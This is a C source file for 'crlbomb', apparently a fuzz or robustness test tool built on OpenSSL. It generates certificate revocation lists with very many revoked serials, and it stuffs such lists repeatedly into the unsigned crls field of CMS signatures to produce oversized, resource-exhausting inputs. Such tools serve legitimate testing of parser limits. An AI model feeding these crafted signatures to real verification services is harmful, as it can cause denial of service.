/* SPDX-License-Identifier: Apache-2.0 */
/* crlbomb.c - test tool: hostile certificate revocation lists.
 *
 *   crlbomb make ISSUER.pem ISSUER.key OUT.pem N
 *       a CRL of ISSUER (signed with its key, SHA-256) listing the serials
 *       1000000..1000000+N-1, current for 30 days
 *   crlbomb stuff IN.sig OUT.sig CRL.pem N
 *       the DER CMS SignedData IN.sig with every CRL of CRL.pem added N
 *       times to its crls field (the signatures do not cover it)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/bio.h>
#include <openssl/cms.h>
#include <openssl/pem.h>
#include <openssl/x509.h>

static void die(const char *what)
{
	fprintf(stderr, "crlbomb: %s\n", what);
	exit(1);
}

static void make(const char *cert, const char *key, const char *out, long n)
{
	FILE *f = fopen(cert, "r");
	X509 *ca = f ? PEM_read_X509(f, NULL, NULL, NULL) : NULL;
	EVP_PKEY *k;
	X509_CRL *c = X509_CRL_new();
	ASN1_TIME *t = ASN1_TIME_new();

	if (f)
		fclose(f);
	f = fopen(key, "r");
	k = f ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
	if (f)
		fclose(f);
	if (!ca || !k || !c || !t)
		die("cannot read the issuer");
	X509_CRL_set_version(c, 1);
	X509_CRL_set_issuer_name(c, X509_get_subject_name(ca));
	X509_gmtime_adj(t, -3600);
	X509_CRL_set1_lastUpdate(c, t);
	X509_gmtime_adj(t, 30L * 86400);
	X509_CRL_set1_nextUpdate(c, t);
	X509_gmtime_adj(t, -7200);
	for (long i = 0; i < n; i++) {
		X509_REVOKED *r = X509_REVOKED_new();
		ASN1_INTEGER *s = ASN1_INTEGER_new();

		if (!r || !s || !ASN1_INTEGER_set(s, 1000000 + i) ||
		    !X509_REVOKED_set_serialNumber(r, s) || !X509_REVOKED_set_revocationDate(r, t) ||
		    !X509_CRL_add0_revoked(c, r))
			die("out of memory");
		ASN1_INTEGER_free(s);
	}
	X509_CRL_sort(c);
	if (X509_CRL_sign(c, k, EVP_sha256()) <= 0)
		die("cannot sign");
	f = fopen(out, "w");
	if (!f || !PEM_write_X509_CRL(f, c) || fclose(f) != 0)
		die("cannot write");
	X509_CRL_free(c);
	X509_free(ca);
	EVP_PKEY_free(k);
	ASN1_TIME_free(t);
}

static void stuff(const char *in, const char *out, const char *crl, long n)
{
	BIO *b = BIO_new_file(in, "rb");
	CMS_ContentInfo *cms = b ? d2i_CMS_bio(b, NULL) : NULL;
	FILE *f = fopen(crl, "r");
	X509_CRL *c;
	int any = 0;

	BIO_free(b);
	if (!cms || !f)
		die("cannot read the signature or the CRL");
	while ((c = PEM_read_X509_CRL(f, NULL, NULL, NULL))) {
		for (long i = 0; i < n; i++)
			if (CMS_add1_crl(cms, c) != 1)
				die("cannot add a CRL");
		X509_CRL_free(c);
		any = 1;
	}
	fclose(f);
	if (!any)
		die("no CRL");
	b = BIO_new_file(out, "wb");
	if (!b || i2d_CMS_bio(b, cms) != 1)
		die("cannot write");
	BIO_free(b);
	CMS_ContentInfo_free(cms);
}

int main(int argc, char **argv)
{
	if (argc == 6 && strcmp(argv[1], "make") == 0)
		make(argv[2], argv[3], argv[4], atol(argv[5]));
	else if (argc == 6 && strcmp(argv[1], "stuff") == 0)
		stuff(argv[2], argv[3], argv[4], atol(argv[5]));
	else
		die("usage: crlbomb make ISSUER.pem ISSUER.key OUT.pem N | stuff IN.sig OUT.sig CRL.pem N");
	return 0;
}
